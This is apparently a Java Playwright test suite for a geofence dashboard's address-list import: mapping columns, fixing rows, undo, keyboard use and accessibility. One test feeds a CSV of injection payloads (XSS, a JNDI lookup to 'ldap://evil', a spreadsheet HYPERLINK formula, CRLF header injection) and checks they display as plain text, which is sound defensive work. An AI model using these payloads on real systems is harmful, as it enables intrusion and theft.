package io.spatialflow.server.dashboard;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.deque.html.axecore.playwright.AxeBuilder;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import com.microsoft.playwright.options.FilePayload;
import io.spatialflow.server.account.WorkspaceId;
import io.spatialflow.server.cli.RunningServer;
import io.spatialflow.server.geofence.GeofenceQuery;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The import, from a list to fences and back, as somebody with a browser goes through it. */
class ImportJourneyTest extends DashboardTest {

    private static int people;

    private static Chromium chromium;

    private final List<String> complaints = new ArrayList<>();
    private BrowserContext context;
    private Page page;

    @BeforeAll
    static void startBrowser() {
        chromium = Chromium.start();
    }

    @AfterAll
    static void stopBrowser() {
        if (chromium != null) {
            chromium.close();
        }
    }

    @BeforeEach
    void openWindow() {
        open(chromium.desktop(ColorScheme.LIGHT));
    }

    @AfterEach
    void closeWindow() {
        if (context != null) {
            context.close();
        }
        assertThat(complaints)
                .as("what the browser complains of, the content security policy first")
                .isEmpty();
    }

    private void open(BrowserContext fresh) {
        if (context != null) {
            context.close();
        }
        context = fresh;
        page = context.newPage();
        page.onConsoleMessage(message -> {
            if (message.type().equals("error") && !message.text().contains("the server responded with a status of 4")) {
                complaints.add(message.text() + " at " + message.location());
            }
        });
        page.onPageError(complaints::add);
    }

    private WorkspaceId signIn() {
        String name = "importer-" + ++people;
        WorkspaceId workspace = server.newWorkspace(name, email(name), PASSWORD);
        signInAs(name);
        return workspace;
    }

    private void signInAs(String name) {
        page.navigate(server.address() + "/login");
        page.getByLabel("E-mail").fill(email(name));
        page.getByLabel("Password").fill(PASSWORD);
        button("Log in").click();
    }

    private Locator button(String name) {
        return page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(name));
    }

    private Locator link(String name) {
        return page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName(name));
    }

    private Locator row(int ordinal) {
        return page.locator("tr[data-row='" + (ordinal - 1) + "']");
    }

    private void accessible() {
        assertThat(new AxeBuilder(page)
                        .analyze().getViolations().stream()
                                .map(violation -> violation.getId() + ": "
                                        + violation.getNodes().stream()
                                                .map(node -> "" + node.getTarget() + node.getFailureSummary())
                                                .toList())
                                .toList())
                .isEmpty();
    }

    private void picture(String name) throws Exception {
        if (Boolean.getBoolean("spatialflow.write")) {
            page.waitForTimeout(300);
            Path docs = Path.of("..", "docs", "pictures");
            Files.createDirectories(docs);
            page.screenshot(new Page.ScreenshotOptions().setPath(docs.resolve(name + ".png")));
        }
    }

    private void paste(String text) {
        page.navigate(server.address() + "/import");
        page.getByLabel("Or paste rows").fill(text);
        button("Look at the list").click();
        button("Find the addresses").click();
        assertThat(button("Create")).isVisible();
    }

    private static long fences(WorkspaceId workspace) {
        return server.geofences().list(workspace, GeofenceQuery.newest(1)).totalCount();
    }

    @Test
    void fromNothingToFencesOnTheMapInFourClicks() throws Exception {
        WorkspaceId workspace = signIn();
        assertThat(page.getByRole(AriaRole.HEADING, new Page.GetByRoleOptions().setName("No geofences yet")))
                .isVisible();
        accessible();
        picture("first-visit");
        button("Try it with a sample list").click();
        assertThat(page.getByLabel("What Street holds")).hasValue("address");
        assertThat(page.getByLabel("What Customer holds")).hasValue("name");
        assertThat(page.getByLabel("What Radius (m) holds")).hasValue("radius");
        accessible();
        picture("import-columns");
        button("Find the addresses").click();
        assertThat(row(1)).containsText("Ready");
        assertThat(row(3)).containsText("Apple HQ (row 1)");
        assertThat(row(12)).containsText("Ambiguous");
        assertThat(row(15)).containsText("A post office box is where mail goes");
        accessible();
        picture("import-preview");
        button("Create").click();
        assertThat(page.getByText("geofences created")).isVisible();
        accessible();
        picture("import-result");
        assertThat(fences(workspace)).isGreaterThan(5);
        link("See all geofences").click();
        assertThat(page.locator("#map")).isVisible();
        accessible();
    }

    @Test
    void anAmbiguousRowIsChosenAFailedOneMendedAndAPinPut() throws Exception {
        WorkspaceId workspace = signIn();
        paste("123 Main St\n1 Mian Strret, Nowhere, ZZ\n" + RunningServer.mainStreet(10) + "\n");
        link("Choose row 1").or(page.locator("#edit-0")).click();
        assertThat(page.locator(".pin"))
                .hasCount(page.locator("input[name=candidate]").count());
        picture("import-choose");
        accessible();
        page.locator("input[name=candidate]").first().check();
        button("Use this place").click();
        assertThat(row(1)).containsText("(chosen)");

        page.locator("#edit-1").click();
        page.getByLabel("Address", new Page.GetByLabelOptions().setExact(true)).fill(RunningServer.mainStreet(20));
        button("Save and find again").click();
        assertThat(row(2)).containsText("Ready");

        page.locator("#edit-2").click();
        page.getByLabel("Latitude").fill("44.5");
        page.getByLabel("Longitude").fill("-72.5");
        button("Set point").click();
        assertThat(row(3)).containsText("Placed by hand");

        page.locator("#tick-all").check();
        page.getByLabel("Radius in metres").fill("250");
        button("Set radius").click();
        assertThat(row(1)).containsText("250 m");
        page.getByLabel("All 3 shown").check();
        page.locator("#add-tags").fill("customer:acme");
        button("Add tags").click();
        assertThat(row(3)).containsText("customer:acme");

        button("Create 3 geofences").click();
        assertThat(page.getByText("3 geofences created")).isVisible();
        assertThat(server.geofences().list(workspace, GeofenceQuery.newest(10)).geofences())
                .anySatisfy(fence -> {
                    assertThat(fence.profile().metadata()).containsEntry("placed_by_hand", true);
                    assertThat(fence.area().centroid().latitude()).isEqualTo(44.5);
                })
                .anySatisfy(fence -> assertThat(fence.profile().metadata()).containsEntry("chosen_by_hand", true))
                .allSatisfy(fence -> assertThat(fence.bufferMeters()).isEqualTo(250));
    }

    @Test
    void aPinIsDraggedToWhereItBelongs() {
        signIn();
        paste(RunningServer.mainStreet(10));
        page.locator("#edit-0").click();
        Locator pin = page.locator(".pin");
        assertThat(pin).isVisible();
        double x = pin.boundingBox().x + 14;
        double y = pin.boundingBox().y + 14;
        page.mouse().move(x, y);
        page.mouse().down();
        page.mouse().move(x + 40, y + 60);
        page.mouse().move(x + 80, y + 90);
        page.mouse().up();
        assertThat(row(1)).containsText("Placed by hand");
    }

    @Test
    void theStrategyChangesTheCounts() {
        signIn();
        paste(RunningServer.mainStreet(100) + "\n" + RunningServer.mainStreet(101) + "\n"
                + RunningServer.mainStreet(200));
        assertThat(button("Create 2 geofences")).isVisible();
        page.locator("#strategy-OVERRIDE").check();
        assertThat(button("Create 3 geofences")).isVisible();
        page.locator("#strategy-FAIL").check();
        assertThat(button("Create 0 geofences")).isDisabled();
        page.reload();
        assertThat(page.locator("#strategy-FAIL")).isChecked();
    }

    @Test
    void whatWasImportedIsUndone() {
        WorkspaceId workspace = signIn();
        paste(RunningServer.mainStreet(100) + "\n" + RunningServer.mainStreet(200));
        button("Create 2 geofences").click();
        assertThat(page.getByText("2 geofences created")).isVisible();
        page.getByText("Undo this import").click();
        button("Take away 2 geofences").click();
        assertThat(page.getByText("2 geofences taken back")).isVisible();
        assertThat(fences(workspace)).isZero();
    }

    @Test
    void theWholeWayByKeyboardAlone() {
        WorkspaceId workspace = signIn();
        page.navigate(server.address() + "/import");
        reach("text");
        page.keyboard().insertText(RunningServer.mainStreet(100) + "\n9 Nowhere Rd, Testville, VT\n");
        reachButton("Look at the list");
        page.keyboard().press("Enter");
        assertThat(button("Find the addresses")).isFocused();
        page.keyboard().press("Enter");
        assertThat(row(2)).containsText("Failed");
        reach("edit-1");
        page.keyboard().press("Enter");
        assertThat(page.locator("#address")).isFocused();
        page.keyboard().press("Control+A");
        page.keyboard().insertText(RunningServer.mainStreet(200));
        page.keyboard().press("Enter");
        assertThat(row(2)).containsText("Ready");
        assertThat(page.locator("#edit-1")).isFocused();
        reachButton("Create 2 geofences");
        page.keyboard().press("Enter");
        assertThat(page.getByText("2 geofences created")).isVisible();
        assertThat(fences(workspace)).isEqualTo(2);
    }

    private void reach(String id) {
        tabUntil("document.activeElement.id === '" + id + "'");
    }

    private void reachButton(String text) {
        tabUntil("document.activeElement.tagName === 'BUTTON' && document.activeElement.textContent.trim().startsWith('"
                + text + "')");
    }

    private void tabUntil(String reached) {
        for (int i = 0; i < 80; i++) {
            if ((boolean) page.evaluate(reached)) {
                return;
            }
            page.keyboard().press("Tab");
        }
        throw new AssertionError("no way by keyboard to: " + reached);
    }

    @Test
    void hostileNamesAndAddressesStayText() {
        signIn();
        page.navigate(server.address() + "/import");
        String csv = "name,address\n\"<img src=x onerror=alert(1)>\",\"</script><script>alert(1)</script>\"\n"
                + "\"${7*7} [[${7*7}]] __${7*7}__\",\"${jndi:ldap://evil}\"\n"
                + "\"=HYPERLINK(\"\"http://evil\"\")\",\"%0d%0aSet-Cookie: a=b\"\n"
                + "\"\u001b[31mred\u202Eder\",\"javascript:alert(1)\"\n";
        page.onDialog(dialog -> {
            complaints.add("a dialog: " + dialog.message());
            dialog.dismiss();
        });
        page.locator("#file")
                .setInputFiles(new FilePayload("<b>hostile</b>.csv", "text/csv", csv.getBytes(StandardCharsets.UTF_8)));
        assertThat(page.locator("h1")).hasText("<b>hostile</b>.csv");
        button("Find the addresses").click();
        assertThat(row(1)).containsText("<img src=x onerror=alert(1)>");
        assertThat(row(2)).containsText("${7*7} [[${7*7}]] __${7*7}__");
        assertThat(row(3)).containsText("=HYPERLINK(");
        page.locator("#edit-0").click();
        assertThat(page.locator("#name")).hasValue("<img src=x onerror=alert(1)>");
        assertThat(page.locator("main img")).hasCount(0);
    }

    @Test
    void aListOfAnotherWorkspaceIsNotThere() {
        signIn();
        paste(RunningServer.mainStreet(100));
        String theirs = page.url();
        open(chromium.desktop(ColorScheme.LIGHT));
        signIn();
        assertThat(page.navigate(theirs).status()).isEqualTo(404);
        assertThat(page.navigate(theirs + "/errors.csv").status()).isEqualTo(404);
        assertThat(page.navigate(theirs.replace("/import/", "/dashboard/imports/") + ".json")
                        .status())
                .isEqualTo(404);
    }

    @Test
    void anEndedSessionLeadsToTheLogin() {
        signIn();
        paste(RunningServer.mainStreet(100));
        context.clearCookies();
        page.locator("#edit-0").click();
        assertThat(page.getByLabel("Password")).isVisible();
    }

    @Test
    void fiveThousandRowsArePreviewedAndStaySmooth() {
        signIn();
        StringBuilder csv = new StringBuilder("Store,Street,City,ST,Zip\n");
        for (int i = 0; i < 5_000; i++) {
            csv.append("Store ")
                    .append(i)
                    .append(',')
                    .append(1 + i % RunningServer.HOUSES)
                    .append(" Main St,Testville,VT,05999\n");
        }
        page.navigate(server.address() + "/import");
        page.locator("#file")
                .setInputFiles(
                        new FilePayload("stores.csv", "text/csv", csv.toString().getBytes(StandardCharsets.UTF_8)));
        long start = System.nanoTime();
        button("Find the addresses").click();
        assertThat(button("Create")).isVisible(new LocatorAssertions.IsVisibleOptions().setTimeout(60_000));
        System.out.println("5,000 rows previewed in " + (System.nanoTime() - start) / 1_000_000 + " ms");
        assertThat(page.locator("nav.chips")).containsText(Pattern.compile("All\\s*5,000"));
        link("Next").click();
        assertThat(page.getByText("Page 2 of 100")).isVisible();
        assertThat(row(51)).isVisible();
        Number weight = (Number)
                page.evaluate("performance.getEntriesByType('resource').reduce((sum, r) => sum + r.encodedBodySize,"
                        + " performance.getEntriesByType('navigation')[0].encodedBodySize)");
        assertThat(weight.longValue()).as("bytes of the page and all it loads").isLessThan(1_500_000);
    }

    @Test
    void itIsReadableOnAPhoneAndInTheDark() throws Exception {
        open(chromium.phone());
        signIn();
        page.navigate(server.address() + "/import");
        accessible();
        paste("name;address\nDepot;" + RunningServer.mainStreet(100) + "\nNowhere;9 Nowhere Rd, Testville, VT\n");
        assertThat((int) page.evaluate("document.documentElement.scrollWidth")).isLessThanOrEqualTo(390);
        accessible();
        picture("import-phone");
        open(chromium.desktop(ColorScheme.DARK));
        signIn();
        page.navigate(server.address() + "/import");
        button("Try it with a sample list").click();
        button("Find the addresses").click();
        assertThat(row(1)).containsText("Ready");
        accessible();
        picture("import-dark");
    }
}
